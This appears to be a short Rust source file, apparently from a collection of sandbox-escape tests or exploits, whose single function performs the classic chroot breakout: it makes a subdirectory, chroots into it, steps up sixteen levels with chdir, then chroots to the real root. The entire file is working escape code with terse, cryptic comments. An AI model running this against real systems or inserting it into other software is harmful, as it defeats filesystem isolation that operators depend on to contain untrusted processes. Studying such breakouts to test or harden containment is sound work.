//! diagnosis: not-high-enough
//! made by: whoever counts how deep the chroot is that they tried it in.

use std::fs;

use anyhow::{Context, Result};
use nix::unistd::{chdir, chroot};

pub fn escape() -> Result<()> {
    fs::create_dir_all("below").context("making a directory")?;
    chroot("below").context("chroot")?;
    for _ in 0..16 {
        chdir("..").context("chdir")?;
    }
    chroot(".").context("chroot(.)")?;
    Ok(())
}
